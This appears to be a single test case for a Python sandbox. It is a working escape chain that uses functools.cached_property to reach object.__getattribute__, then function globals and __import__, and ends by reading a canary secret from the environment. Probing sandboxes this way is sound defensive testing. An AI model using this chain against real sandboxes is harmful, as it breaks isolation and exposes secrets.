# technique: functools.cached_property.__get__(cls) reads cls.__dict__ and returns any entry by attrname: object.__dict__['__getattribute__']
# expect: any
import functools
import json
cp = functools.cached_property(lambda self: None)
cp.attrname = "__getattribute__"
ga = cp.__get__(object)
g = ga(json.dumps, "__globals__")
os_mod = g["__builtins__"]["__import__"]("os")
(os_mod.environ.get("SAFEPY_CANARY_SECRET"), os_mod.getpid())
